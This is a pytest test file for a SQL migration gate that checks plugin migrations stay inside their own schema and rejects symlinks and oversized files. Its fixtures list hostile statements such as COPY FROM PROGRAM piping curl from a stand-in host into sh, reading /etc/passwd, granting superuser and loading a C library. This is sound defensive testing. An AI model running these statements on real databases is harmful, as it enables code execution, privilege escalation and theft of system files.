"""The migration gate's scope rules (renderer/gates/sqlscope.py) and its symlink rule, without a server.

Every case goes through ``check_version`` on a catalog built in tmp_path (the real squawk and
PostgreSQL's parser via pglast) and checks the file, the line and the rule.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from renderer.gates.migrations import check_version
from renderer.gates.sqlscope import RULES, check_sql, plugin_schema

INIT = "CREATE TABLE IF NOT EXISTS quiz.quiz (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, answer text);\n"
HEADER = "-- 002: the change under test\n-- (second comment line)\n"


def catalog(tmp_path: Path, change: str, *, first: bool = False, schema: str | None = "quiz") -> Path:
    """quiz-app 1.0.0 (INIT) and 1.1.0 (INIT + change), or only 1.0.0 with the change when ``first``."""
    plugin = tmp_path / "catalog" / "quiz-app"
    versions = {"1.0.0": {"001_init.sql": INIT}} if not first else {"1.0.0": {"001_init.sql": INIT, "002.sql": change}}
    if not first:
        versions["1.1.0"] = {"001_init.sql": INIT, "002_change.sql": change}
    for version, files in versions.items():
        mig = plugin / version / "migrations"
        mig.mkdir(parents=True)
        database = f"  database: {{schema: {schema}}}\n" if schema else "  database: {}\n"
        (plugin / version / "plugin.yaml").write_text(f"apiVersion: plugins.adapstory.io/v1\nkind: Plugin\nspec:\n{database}")
        for name, text in files.items():
            (mig / name).write_text(text)
    return plugin


def scope(findings) -> list[tuple[str, int, str]]:
    return [(f.path.name, f.line, f.rule) for f in findings if f.blocking and (f.rule.startswith("scope-") or
                                                                              f.rule == "migration-symlink")]


REJECTED = [
    pytest.param("SET ROLE postgres;\n", "scope-role", id="set-role"),
    pytest.param("SET LOCAL ROLE postgres;\n", "scope-role", id="set-local-role"),
    pytest.param("RESET ROLE;\n", "scope-role", id="reset-role"),
    pytest.param("SET SESSION AUTHORIZATION postgres;\n", "scope-role", id="session-authorization"),
    pytest.param("SET/* hidden */ROLE\n  postgres;\n", "scope-role", id="set-role-behind-a-comment"),
    pytest.param("ALTER ROLE plugin_quiz_app_t SUPERUSER;\n", "scope-role", id="alter-role-superuser"),
    pytest.param("ALTER USER CURRENT_USER WITH CREATEDB;\n", "scope-role", id="alter-user"),
    pytest.param("CREATE ROLE evil LOGIN;\n", "scope-role", id="create-role"),
    pytest.param("CREATE USER evil;\n", "scope-role", id="create-user"),
    pytest.param("CREATE GROUP evil;\n", "scope-role", id="create-group"),
    pytest.param("DROP ROLE IF EXISTS evil;\n", "scope-role", id="drop-role"),
    pytest.param("DROP USER IF EXISTS evil;\n", "scope-role", id="drop-user"),
    pytest.param("GRANT pg_read_all_data TO CURRENT_USER;\n", "scope-role", id="grant-role"),
    pytest.param("ALTER TABLE quiz.quiz OWNER TO postgres;\n", "scope-role", id="table-owner"),
    pytest.param("ALTER FUNCTION quiz.f() OWNER TO postgres;\n", "scope-role", id="function-owner"),
    pytest.param("DROP OWNED BY CURRENT_USER;\n", "scope-role", id="drop-owned"),
    pytest.param("REASSIGN OWNED BY CURRENT_USER TO postgres;\n", "scope-role", id="reassign-owned"),
    pytest.param("GRANT SELECT ON quiz.quiz TO PUBLIC;\n", "scope-privilege", id="grant-to-public"),
    pytest.param("GRANT ALL ON SCHEMA quiz TO other_role;\n", "scope-privilege", id="grant-schema"),
    pytest.param("REVOKE ALL ON quiz.quiz FROM PUBLIC;\n", "scope-privilege", id="revoke"),
    pytest.param("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;\n", "scope-privilege",
                 id="default-privileges"),
    pytest.param("COPY quiz.quiz FROM PROGRAM 'curl evil.example | sh';\n", "scope-program", id="copy-program"),
    pytest.param("COPY quiz.quiz TO '/tmp/dump.csv';\n", "scope-program", id="copy-to-file"),
    pytest.param("COPY quiz.quiz FROM '/etc/passwd';\n", "scope-program", id="copy-from-file"),
    pytest.param("LOAD 'auto_explain';\n", "scope-program", id="load"),
    pytest.param("SELECT pg_read_file('/etc/passwd');\n", "scope-program", id="read-file"),
    pytest.param("SELECT lo_export(1, '/tmp/x');\n", "scope-program", id="lo-export"),
    pytest.param("SELECT set_config('search_path', 'public', false);\n", "scope-search-path", id="set-config"),
    pytest.param("CREATE EXTENSION IF NOT EXISTS pgcrypto;\n", "scope-extension", id="create-extension"),
    pytest.param("ALTER EXTENSION pgcrypto UPDATE;\n", "scope-extension", id="alter-extension"),
    pytest.param("DROP EXTENSION IF EXISTS pgcrypto;\n", "scope-extension", id="drop-extension"),
    pytest.param("CREATE LANGUAGE plperlu;\n", "scope-extension", id="create-language"),
    pytest.param("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw;\n", "scope-extension", id="foreign-server"),
    pytest.param("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO quiz;\n", "scope-extension", id="import-foreign"),
    pytest.param("CREATE SCHEMA IF NOT EXISTS evil;\n", "scope-schema", id="create-schema"),
    pytest.param("CREATE SCHEMA IF NOT EXISTS quiz;\n", "scope-schema", id="create-own-schema"),
    pytest.param("ALTER SCHEMA quiz RENAME TO quiz_old;\n", "scope-schema", id="rename-schema"),
    pytest.param("DROP SCHEMA IF EXISTS quiz CASCADE;\n", "scope-schema", id="drop-own-schema"),
    pytest.param("DROP SCHEMA IF EXISTS public;\n", "scope-schema", id="drop-public"),
    pytest.param("SET search_path = public;\n", "scope-search-path", id="search-path"),
    pytest.param("SET search_path TO quiz, public;\n", "scope-search-path", id="search-path-plus-public"),
    pytest.param("RESET search_path;\n", "scope-search-path", id="reset-search-path"),
    pytest.param("RESET ALL;\n", "scope-search-path", id="reset-all"),
    pytest.param("ALTER ROLE CURRENT_USER SET search_path = public;\n", "scope-role", id="role-search-path"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS int LANGUAGE sql SET search_path = public AS 'SELECT 1';\n",
                 "scope-search-path", id="function-search-path"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1';\n",
                 "scope-role", id="function-set-role"),
    pytest.param('SET "ROLE" TO postgres;\n', "scope-role", id="set-role-as-a-quoted-setting"),
    pytest.param("CALL other.p();\n", "scope-other-schema", id="call-other"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS SETOF quiz.quiz LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY "
                 "SELECT * FROM public.quiz; END $$;\n", "scope-other-schema", id="plpgsql-setof-reads-public"),
    pytest.param("COPY (SELECT 1) TO '/tmp/x';\n", "scope-program", id="copy-query-to-file"),
    pytest.param("CREATE TABLE public.t (id bigint);\n", "scope-other-schema", id="table-in-public"),
    pytest.param('CREATE TABLE "public".t (id bigint);\n', "scope-other-schema", id="quoted-public"),
    pytest.param("CREATE TABLE PUBLIC.t (id bigint);\n", "scope-other-schema", id="upper-case-public"),
    pytest.param('CREATE TABLE "Quiz".t (id bigint);\n', "scope-other-schema", id="quoted-other-case"),
    pytest.param("SELECT * FROM pg_catalog.pg_authid;\n", "scope-other-schema", id="pg-catalog"),
    pytest.param("SELECT pg_catalog.now();\n", "scope-other-schema", id="qualified-function"),
    pytest.param("SELECT 1::pg_catalog.int8;\n", "scope-other-schema", id="qualified-type"),
    pytest.param("INSERT INTO other.t VALUES (1);\n", "scope-other-schema", id="insert-other"),
    pytest.param("UPDATE other.t SET x = 1;\n", "scope-other-schema", id="update-other"),
    pytest.param("SELECT other.t.x FROM quiz.quiz;\n", "scope-other-schema", id="qualified-column"),
    pytest.param("SELECT * FROM otherdb.quiz.quiz;\n", "scope-other-schema", id="other-database"),
    pytest.param("CREATE TABLE pg_temp.t (id bigint);\n", "scope-other-schema", id="pg-temp"),
    pytest.param("CREATE VIEW quiz.v AS SELECT * FROM other.t;\n", "scope-other-schema", id="view-on-other"),
    pytest.param("CREATE INDEX IF NOT EXISTS i ON other.t (x);\n", "scope-other-schema", id="index-on-other"),
    pytest.param("ALTER TABLE quiz.quiz ADD CONSTRAINT fk FOREIGN KEY (id) REFERENCES other.t (id);\n",
                 "scope-other-schema", id="foreign-key-to-other"),
    pytest.param("CREATE TABLE quiz.t (LIKE other.t);\n", "scope-other-schema", id="like-other"),
    pytest.param("CREATE TRIGGER t AFTER INSERT ON quiz.quiz EXECUTE FUNCTION other.f();\n",
                 "scope-other-schema", id="trigger-function-in-other"),
    pytest.param("ALTER TABLE quiz.quiz SET SCHEMA other;\n", "scope-other-schema", id="set-schema"),
    pytest.param("DROP TABLE IF EXISTS other.t;\n", "scope-other-schema", id="drop-other-table"),
    pytest.param("DROP FUNCTION IF EXISTS other.f();\n", "scope-other-schema", id="drop-other-function"),
    pytest.param("COMMENT ON TABLE other.t IS 'x';\n", "scope-other-schema", id="comment-other"),
    pytest.param("SELECT nextval('other.seq');\n", "scope-other-schema", id="sequence-name-in-a-string"),
    pytest.param("SELECT 'pg_catalog.pg_authid'::regclass;\n", "scope-other-schema", id="regclass-string"),
    pytest.param("CREATE TYPE other.mood AS ENUM ('a');\n", "scope-other-schema", id="type-in-other"),
    pytest.param("CREATE SEQUENCE quiz.s OWNED BY other.t.id;\n", "scope-other-schema", id="owned-by-other"),
    pytest.param("ALTER SYSTEM SET work_mem = '1GB';\n", "scope-database", id="alter-system"),
    pytest.param("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION quiz.f();\n", "scope-database",
                 id="event-trigger"),
    pytest.param("CREATE DATABASE evil;\n", "scope-database", id="create-database"),
    pytest.param("ALTER DATABASE tenant SET search_path = public;\n", "scope-database", id="alter-database"),
    pytest.param("CREATE TABLESPACE t LOCATION '/tmp';\n", "scope-database", id="tablespace"),
    pytest.param("CREATE TABLE quiz.t (id bigint) TABLESPACE pg_global;\n", "scope-database", id="table-tablespace"),
    pytest.param("SET session_replication_role = replica;\n", "scope-database", id="replication-role"),
    pytest.param("CREATE PUBLICATION p FOR ALL TABLES;\n", "scope-database", id="publication"),
    pytest.param("CREATE CAST (text AS bigint) WITH INOUT;\n", "scope-database", id="cast"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1';\n",
                 "scope-security-definer", id="security-definer"),
    pytest.param("ALTER FUNCTION quiz.f() SECURITY DEFINER;\n", "scope-security-definer", id="alter-security-definer"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS int LANGUAGE plperlu AS 'return 1';\n", "scope-language",
                 id="untrusted-language"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS int LANGUAGE c AS 'evil.so', 'f';\n", "scope-language",
                 id="c-function"),
    pytest.param("DO LANGUAGE plpython3u $$import os$$;\n", "scope-language", id="do-untrusted"),
    pytest.param("DO $$\nBEGIN\n  EXECUTE 'SET ROLE postgres';\nEND $$;\n", "scope-dynamic-sql", id="do-execute"),
    pytest.param("DO $$\nBEGIN\n  PERFORM 1 FROM other.t;\nEND $$;\n", "scope-other-schema", id="do-reads-other"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS bigint LANGUAGE plpgsql AS $$\nBEGIN\n"
                 "  RETURN (SELECT count(*) FROM pg_catalog.pg_authid);\nEND $$;\n", "scope-other-schema",
                 id="plpgsql-reads-catalog"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS void LANGUAGE plpgsql AS $$\nBEGIN\n"
                 "  EXECUTE format('DROP TABLE %I', 'x');\nEND $$;\n", "scope-dynamic-sql", id="plpgsql-execute"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS bigint LANGUAGE sql AS $$ SELECT count(*) FROM other.t $$;\n",
                 "scope-other-schema", id="sql-body-reads-other"),
    pytest.param("CREATE FUNCTION quiz.f() RETURNS bigint BEGIN ATOMIC SELECT count(*) FROM other.t; END;\n",
                 "scope-other-schema", id="atomic-body-reads-other"),
]


# Statements inside a function body or DO block are reported at their own line, not the CREATE's.
BODY_LINE = {"do-execute": 5, "do-reads-other": 5, "plpgsql-reads-catalog": 5, "plpgsql-execute": 5}


@pytest.mark.parametrize(("statement", "rule"), REJECTED)
def test_a_statement_that_leaves_the_plugins_schema_is_rejected_at_its_line(tmp_path, request, statement, rule):
    plugin = catalog(tmp_path, HEADER + statement)

    found = scope(check_version(plugin, "1.1.0"))

    assert ("002_change.sql", BODY_LINE.get(request.node.callspec.id, 3), rule) in found, found
    assert {r for _n, _l, r in found} <= set(RULES)


def test_a_line_inside_a_function_body_is_reported_at_its_own_line(tmp_path):
    body = ("CREATE FUNCTION quiz.f() RETURNS bigint LANGUAGE plpgsql AS $$\nDECLARE n bigint;\nBEGIN\n"
            "  SELECT count(*) INTO n FROM quiz.quiz;\n  EXECUTE 'SELECT 1';\n  RETURN n;\nEND $$;\n")
    plugin = catalog(tmp_path, HEADER + body)

    assert scope(check_version(plugin, "1.1.0")) == [("002_change.sql", 7, "scope-dynamic-sql")]


ALLOWED = [
    pytest.param("ALTER TABLE quiz.quiz ADD COLUMN IF NOT EXISTS hint text;\n", id="own-schema-qualified"),
    pytest.param("ALTER TABLE QUIZ.quiz ADD COLUMN IF NOT EXISTS hint text;\n", id="own-schema-upper-case"),
    pytest.param("ALTER TABLE quiz ADD COLUMN IF NOT EXISTS hint text;\n", id="unqualified"),
    pytest.param("SET lock_timeout = '2s';\nSET statement_timeout = '30s';\n", id="timeouts"),
    pytest.param("SET search_path = quiz;\n", id="search-path-to-own-schema"),
    pytest.param("CREATE TABLE IF NOT EXISTS quiz.t (id bigint, at timestamp with time zone DEFAULT now(), "
                 "n numeric(10, 2), b boolean, d double precision, i interval);\n", id="built-in-types"),
    pytest.param("SELECT extract(year FROM now()), substring('abc' FROM 2), trim(' x '), "
                 "coalesce(NULL, 1), 1::bigint;\n", id="sql-syntax-functions"),
    pytest.param("CREATE TYPE quiz.mood AS ENUM ('happy', 'sad');\n", id="own-type"),
    pytest.param("CREATE INDEX CONCURRENTLY IF NOT EXISTS quiz_answer ON quiz.quiz (answer);\n", id="index"),
    pytest.param("SELECT nextval('quiz.quiz_id_seq');\n", id="own-sequence-in-a-string"),
    pytest.param("CREATE TEMP TABLE scratch (id bigint);\nDROP TABLE scratch;\n", id="temp-table"),
    pytest.param("SELECT q.answer FROM quiz.quiz q;\n", id="alias-column"),
    pytest.param("CREATE OR REPLACE FUNCTION quiz.total() RETURNS bigint LANGUAGE plpgsql SET search_path = quiz "
                 "AS $$\nBEGIN\n  RETURN (SELECT count(*) FROM quiz.quiz);\nEND $$;\n", id="plpgsql-function"),
    pytest.param("CREATE OR REPLACE FUNCTION quiz.total() RETURNS bigint LANGUAGE sql AS "
                 "'SELECT count(*) FROM quiz.quiz';\n", id="sql-function"),
    pytest.param("DO $$\nBEGIN\n  UPDATE quiz.quiz SET answer = '' WHERE answer IS NULL;\nEND $$;\n",
                 id="plpgsql-do-block"),
    pytest.param("COMMENT ON SCHEMA quiz IS 'the quiz plugin';\n", id="comment-on-own-schema"),
    pytest.param("-- SET ROLE postgres; is only a comment\nSELECT 'GRANT ALL TO PUBLIC';\n", id="words-in-comments"),
    pytest.param("COPY quiz.quiz (answer) FROM STDIN;\n", id="copy-from-stdin"),
    pytest.param("CREATE FUNCTION quiz.all_quizzes() RETURNS SETOF quiz.quiz LANGUAGE plpgsql AS $$\n"
                 "DECLARE r quiz.quiz;\nBEGIN\n  RETURN QUERY SELECT * FROM quiz.quiz;\nEND $$;\n",
                 id="plpgsql-returning-its-own-table-type"),
    pytest.param("CREATE FUNCTION quiz.touch() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n"
                 "  NEW.answer := lower(NEW.answer);\n  RETURN NEW;\nEND $$;\n", id="trigger-function"),
    pytest.param("CREATE PROCEDURE quiz.reset() LANGUAGE sql AS $$ UPDATE quiz.quiz SET answer = NULL $$;\n"
                 "CALL quiz.reset();\n", id="procedure-and-call"),
]


@pytest.mark.parametrize("statement", ALLOWED)
def test_a_statement_inside_the_plugins_schema_passes_the_scope_rules(tmp_path, statement):
    plugin = catalog(tmp_path, HEADER + statement)

    assert scope(check_version(plugin, "1.1.0")) == []


def test_the_scope_rules_reject_even_in_the_plugins_first_version(tmp_path):
    plugin = catalog(tmp_path, "SET ROLE postgres;\n", first=True)

    assert scope(check_version(plugin, "1.0.0")) == [("002.sql", 1, "scope-role")]


def test_the_schema_is_the_manifests_or_else_the_plugin_name_with_underscores(tmp_path):
    named = catalog(tmp_path / "a", "SELECT 1;\n", schema="quiz")
    default = catalog(tmp_path / "b", "SELECT 1;\n", schema=None)

    assert plugin_schema(named / "1.1.0") == "quiz"
    assert plugin_schema(default / "1.1.0") == "quiz_app"
    # with the default schema, the file's quiz.quiz is another plugin's schema
    assert ("001_init.sql", 1, "scope-other-schema") in scope(check_version(default, "1.0.0"))


def test_invalid_sql_is_one_syntax_error_not_a_scope_finding(tmp_path):
    plugin = catalog(tmp_path, HEADER + "SET ROLE;\n")

    findings = [(f.line, f.rule) for f in check_version(plugin, "1.1.0") if f.blocking]

    assert findings == [(3, "syntax-error")]


def test_a_message_names_the_schema_and_the_documentation():
    (finding,) = check_sql("\n\nGRANT SELECT ON quiz.quiz TO PUBLIC;\n", "quiz")

    assert finding.line == 3 and "'quiz'" in finding.message and "docs/migrations.md" in finding.message


# --- symlinks (issue 9, class 8) ------------------------------------------------------------------


def _link_file(plugin: Path, outside: Path) -> None:
    (plugin / "1.1.0" / "migrations" / "003_link.sql").symlink_to(outside)


def _link_folder(plugin: Path, outside: Path) -> None:
    mig = plugin / "1.1.0" / "migrations"
    for p in mig.iterdir():
        p.unlink()
    mig.rmdir()
    mig.symlink_to(outside.parent)


def _link_inside(plugin: Path, _outside: Path) -> None:
    (plugin / "1.1.0" / "migrations" / "003_again.sql").symlink_to("001_init.sql")


def _link_dangling(plugin: Path, _outside: Path) -> None:
    (plugin / "1.1.0" / "migrations" / "003_gone.sql").symlink_to("/nonexistent/x.sql")


@pytest.mark.parametrize(
    ("make", "name"),
    [
        pytest.param(_link_file, "003_link.sql", id="file-to-outside-the-repo"),
        pytest.param(_link_folder, "migrations", id="folder-to-outside-the-repo"),
        pytest.param(_link_inside, "003_again.sql", id="file-to-a-sibling"),
        pytest.param(_link_dangling, "003_gone.sql", id="dangling"),
    ],
)
def test_a_symlink_in_migrations_is_rejected_and_never_read(tmp_path, make, name):
    outside = tmp_path / "outside" / "secret.sql"
    outside.parent.mkdir()
    outside.write_text("SELECT 'the secret';\n")
    os.chmod(outside, 0o000)  # reading it would fail loudly (unless root); never reading it passes
    plugin = catalog(tmp_path, "SELECT 1;\n")
    make(plugin, outside)

    findings = check_version(plugin, "1.1.0")

    assert (name, 0, "migration-symlink") in scope(findings)
    assert all("secret" not in f.message for f in findings)


def test_render_build_rejects_an_escaping_migration_and_writes_nothing(envs, render, tmp_path):
    bad = envs / "catalog" / "quiz-generator" / "1.3.0" / "migrations" / "003_escape.sql"
    bad.write_text("-- innocent\nALTER ROLE CURRENT_USER SUPERUSER;\n")
    out = tmp_path / "out"

    result = render("build", str(envs), "--out", str(out), "--offline")

    assert result.code == 1
    assert "catalog/quiz-generator/1.3.0/migrations/003_escape.sql:2: migrations: scope-role: " in result.err
    assert "Traceback" not in result.err and not out.exists()


def test_render_build_rejects_a_migration_symlink_to_outside_the_repo(envs, render, tmp_path):
    outside = tmp_path / "elsewhere.sql"
    outside.write_text("SELECT 1;\n")
    (envs / "catalog" / "quiz-generator" / "1.3.0" / "migrations" / "003_link.sql").symlink_to(outside)
    out = tmp_path / "out"

    result = render("build", str(envs), "--out", str(out), "--offline")

    # The loader (every file it reads) or the migration gate: either way, by name, before anything is read.
    assert result.code == 1
    assert "catalog/quiz-generator/1.3.0/migrations/003_link.sql: " in result.err and "symbolic link" in result.err
    assert "Traceback" not in result.err and not out.exists()


# --- hostile sizes ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "statement",
    [
        pytest.param("SELECT 1" + " + 1" * 40_000 + ";\n", id="long-operator-chain"),
        pytest.param("SELECT " + "(" * 40_000 + "1" + ")" * 40_000 + ";\n", id="deep-parentheses"),
    ],
)
def test_a_statement_nested_beyond_the_parsers_limit_is_rejected_without_crashing(tmp_path, statement):
    plugin = catalog(tmp_path, "SET ROLE postgres;\n" + statement)

    findings = [(f.path.name, f.line, f.rule) for f in check_version(plugin, "1.1.0") if f.blocking]

    assert ("002_change.sql", 2, "syntax-error") in findings or ("002_change.sql", 1, "syntax-error") in findings


def test_a_migration_over_one_mebibyte_is_rejected_unread(tmp_path):
    plugin = catalog(tmp_path, "-- padding\n" * 100_000 + "SET ROLE postgres;\n")

    findings = [(f.path.name, f.rule) for f in check_version(plugin, "1.1.0") if f.blocking]

    assert findings == [("002_change.sql", "migration-too-large")]
